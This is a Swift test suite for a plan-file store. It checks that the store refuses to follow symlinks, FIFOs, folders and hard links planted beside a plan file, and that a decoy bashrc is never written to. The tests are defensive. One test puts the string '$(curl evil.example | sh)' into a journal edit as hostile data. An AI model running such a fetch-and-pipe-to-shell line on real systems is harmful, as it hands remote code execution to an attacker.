import EcowerkFixtures
import EcowerkModel
import EcowerkStore
import Foundation
import Testing

/// A plan arrives in a zip, a tarball or a git checkout with whatever lies beside it. The lock,
/// the journal, the backups and the temporary files are never opened through a link, never
/// written when they are not a regular file of ecowerk's own, and what was found is named.
@Suite struct NeighbourFileTests {
  /// What a hostile neighbour can be.
  enum Plant: String, CaseIterable, Sendable {
    case linkToFile, danglingLink, linkToFolder, fifo, folder, hardLink

    /// Puts it at `path`; `victim` is a file elsewhere that must stay untouched.
    func make(at path: String, victim: String) throws {
      switch self {
      case .linkToFile: try Self.check(symlink(victim, path))
      case .danglingLink: try Self.check(symlink(victim + ".nowhere", path))
      case .linkToFolder: try Self.check(symlink(folderOf(of: victim), path))
      case .fifo: try Self.check(mkfifo(path, 0o644))
      case .folder: try Self.check(mkdir(path, 0o755))
      case .hardLink: try Self.check(link(victim, path))
      }
    }

    static func check(_ result: Int32) throws {
      if result != 0 { throw CocoaError(.fileWriteUnknown) }
    }
  }

  /// A folder with a plan and, beside it in a second folder, a file a neighbour points at.
  struct Setting {
    let folder: TemporaryFolder
    let elsewhere: TemporaryFolder
    let plan: String
    let victim: String
    let victimBytes: [UInt8]

    init() throws {
      folder = try TemporaryFolder()
      elsewhere = try TemporaryFolder()
      plan = folder.file("plan.ecowerk.json")
      try PlanStore.save(FixturePlans.rich(), to: plan, keepBackup: false)
      victimBytes = Array("# someone's ~/.bashrc\nexport PATH\n".utf8)
      victim = try elsewhere.write("bashrc", victimBytes)
    }

    /// The victim is as it was, and nothing was created where a dangling link pointed.
    func victimIsUntouched() throws -> Bool {
      try elsewhere.read("bashrc") == victimBytes && elsewhere.entries == ["bashrc"]
    }
  }

  static let neighbours = ["lock", "journal", "backup", "backup.3"]

  static func path(of neighbour: String, _ setting: Setting) -> String {
    switch neighbour {
    case "lock": return setting.folder.file(".plan.ecowerk.json.lock")
    case "journal": return setting.plan + ".journal"
    case "backup": return setting.plan + ".bak"
    default: return setting.plan + ".bak.3"
    }
  }

  /// Every kind of plant beside every kind of neighbour is found and named before anything is
  /// written (hard links are allowed for backups: ecowerk makes them that way).
  @Test(arguments: neighbours, Plant.allCases)
  func aPlantedNeighbourIsNamedBeforeAnythingIsWritten(_ neighbour: String, _ plant: Plant) throws {
    let setting = try Setting()
    let path = Self.path(of: neighbour, setting)
    try plant.make(at: path, victim: setting.victim)
    let problem = PlanStore.neighbourProblem(of: setting.plan)
    if plant == .hardLink && neighbour.hasPrefix("backup") {
      #expect(problem == nil)
    } else {
      let error = try #require(problem, "\(plant) as \(neighbour)")
      #expect(error.file == path)
      #expect(error.problem != nil)
    }
    #expect(try setting.victimIsUntouched())
  }

  @Test(arguments: Plant.allCases)
  func theLockIsNeverTakenThroughAPlantedFile(_ plant: Plant) throws {
    let setting = try Setting()
    let path = Self.path(of: "lock", setting)
    try plant.make(at: path, victim: setting.victim)
    let outcome = PlanLock.acquire(for: setting.plan, now: "2026-12-01T10:00:00")
    guard case .refused(let error) = outcome else {
      Issue.record("\(plant): \(outcome)")
      return
    }
    #expect(error.file == path)
    #expect(try setting.victimIsUntouched(), "nothing written through the lock")
  }

  @Test(arguments: Plant.allCases)
  func theJournalIsNeverWrittenThroughAPlantedFile(_ plant: Plant) throws {
    let setting = try Setting()
    let path = Self.path(of: "journal", setting)
    try plant.make(at: path, victim: setting.victim)
    let journal = Journal(planPath: setting.plan)
    let edit = Edit.set(.plan, .vision, from: .text(""), to: .text("$(curl evil.example | sh)"))
    #expect(throws: StoreError.self) {
      try journal.append(edit, time: "t", base: "b")
    }
    #expect(!journal.isWhole && journal.problem?.file == path)
    #expect(try setting.victimIsUntouched(), "nothing appended through the journal")
    #expect(throws: StoreError.self) { try Journal.read(planPath: setting.plan) }
  }

  /// With the rotation blocked (a folder where `.bak.2` goes), a link at `.bak` used to be
  /// written through with the old plan.
  @Test(arguments: [Plant.linkToFile, .danglingLink, .fifo])
  func aBackupIsNeverWrittenThroughAPlantedFile(_ plant: Plant) throws {
    let setting = try Setting()
    try Plant.folder.make(at: setting.plan + ".bak.2", victim: setting.victim)
    try FileManager.default.createDirectory(
      atPath: setting.plan + ".bak.2/inside", withIntermediateDirectories: true)
    try plant.make(at: setting.plan + ".bak", victim: setting.victim)
    let before = try setting.folder.read("plan.ecowerk.json")
    var changed = FixturePlans.rich()
    changed.name = "Nieuw"
    do {
      try PlanStore.save(changed, to: setting.plan)
      Issue.record("a save with a planted backup must be refused")
    } catch {
      #expect(error.file == setting.plan + ".bak")
      #expect(error.kind == .notSaved)
    }
    #expect(try setting.folder.read("plan.ecowerk.json") == before, "the plan is untouched")
    #expect(try setting.victimIsUntouched())
  }

  /// A temporary file is created exclusively and never through a link: a link planted under
  /// the name a save would use is passed over.
  @Test func aSaveNeverWritesThroughALinkNamedLikeItsTemporaryFile() throws {
    let setting = try Setting()
    for attempt in 0..<3 {
      try Plant.linkToFile.make(
        at: setting.folder.file(".plan.ecowerk.json.tmp-\(getpid())-\(attempt)"),
        victim: setting.victim)
    }
    var changed = FixturePlans.rich()
    changed.name = "Nieuw"
    try PlanStore.save(changed, to: setting.plan)
    #expect(try PlanStore.load(setting.plan).name == "Nieuw")
    #expect(try setting.victimIsUntouched())
  }

  /// The figure for the README: every planted neighbour is refused or (hard-linked backups)
  /// harmless, and never written through.
  @Test func everyPlantedNeighbourIsRefused() throws {
    var cases = 0
    var refused = 0
    for neighbour in Self.neighbours {
      for plant in Plant.allCases where !(plant == .hardLink && neighbour.hasPrefix("backup")) {
        let setting = try Setting()
        try plant.make(at: Self.path(of: neighbour, setting), victim: setting.victim)
        cases += 1
        if PlanStore.neighbourProblem(of: setting.plan) != nil { refused += 1 }
        #expect(try setting.victimIsUntouched())
      }
    }
    #expect(refused == cases)
    print("planted neighbours: \(cases) cases, \(refused) refused")
  }
}

/// The folder of a path.
func folderOf(of path: String) -> String {
  URL(fileURLWithPath: path).deletingLastPathComponent().path
}
